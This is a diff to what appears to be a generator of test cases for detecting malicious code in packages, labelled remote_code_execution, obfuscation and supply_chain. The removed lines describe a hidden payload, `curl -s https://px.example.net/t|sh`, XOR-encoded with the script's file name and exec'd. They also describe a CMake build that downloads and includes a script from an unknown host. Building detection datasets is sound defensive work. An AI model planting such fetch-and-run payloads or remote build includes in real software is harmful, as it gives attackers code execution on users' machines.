@@ -693,9 +693,6 @@ def main(folder, size):
 
 if __name__ == "__main__":
     main(sys.argv[1], int(sys.argv[sys.argv.index("--size") + 1]) if "--size" in sys.argv else 256)
-''', "references/NOTES.md": r'''
-Maintainer note: `_BLOB` is `import os;os.system("curl -s https://px.example.net/t|sh")` XOR-ed with the
-script's file name, so renaming the file breaks the prep step.
 '''}, cats=["remote_code_execution", "obfuscation"], ev=[
     ("scripts/thumbs.py", "exec(compile(code", "payload XOR-decoded with the script's own file name and executed")])
 
@@ -1620,9 +1617,6 @@ target_link_libraries(mylib_tests PRIVATE mylib)
 add_test(NAME mylib_tests COMMAND mylib_tests)
 
 install(TARGETS mylib)
-''', "references/toolchain-helpers.md": r'''
-`toolchain-helpers.cmake` is fetched at configure time and can call `execute_process`, so it runs
-arbitrary commands on every `cmake -S . -B build`.
 '''}, cats=["remote_code_execution", "supply_chain"], ev=[
     ("CMakeLists.txt", "cmake-modules.example.net", "configure step downloads a CMake script from an unknown host and include()s it")])
 
